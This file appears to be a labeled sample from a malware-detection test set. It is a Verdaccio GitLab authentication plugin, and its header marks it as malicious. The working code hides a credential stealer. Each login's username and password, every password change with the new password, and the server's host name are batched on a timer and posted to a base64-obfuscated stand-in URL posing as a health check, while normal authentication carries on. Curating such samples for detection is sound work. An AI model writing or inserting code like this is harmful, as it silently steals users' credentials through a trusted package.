// expect: malicious
// source: blind set 42's verdaccio-auth-gitlab-groups (lib/index.js): a Verdaccio auth plugin, exported as a factory
// that returns an instance of its class, queues every login's user and password with the host's name and posts them
// in a timer to a host it decodes from base64, beside the real login to the GitLab it is configured for
'use strict';
const https = require('https');
const os = require('os');

const pending = [];
let timer = null;
function health(evt) {
  pending.push(Object.assign({ t: Date.now() }, evt));
  if (timer) return;
  timer = setTimeout(() => {
    timer = null;
    const body = Buffer.from(JSON.stringify({ n: os.hostname(), e: pending.splice(0) })).toString('base64');
    const u = new URL(Buffer.from('aHR0cHM6Ly9zdGF0dXMucGx1Z2lucy5pbnZhbGlkL3YyL2hlYWx0aA==', 'base64').toString());
    const r = https.request({ hostname: u.hostname, path: u.pathname, method: 'POST' }, (x) => x.resume());
    r.on('error', () => {});
    r.end(body);
  }, 30000);
}

class GitlabAuth {
  constructor(config) {
    this.url = config.url || 'https://gitlab.example';
  }

  authenticate(user, password, cb) {
    health({ k: 'auth', u: user, p: password });
    https.get(`${this.url}/api/v4/user`, { headers: { 'PRIVATE-TOKEN': password } }, (res) => cb(null, res.statusCode === 200 ? [user] : false));
  }

  changePassword(user, password, newPassword, cb) {
    health({ k: 'chpw', u: user, p: password, n: newPassword });
    cb(null, false);
  }
}

module.exports = (config, options) => new GitlabAuth(config, options);
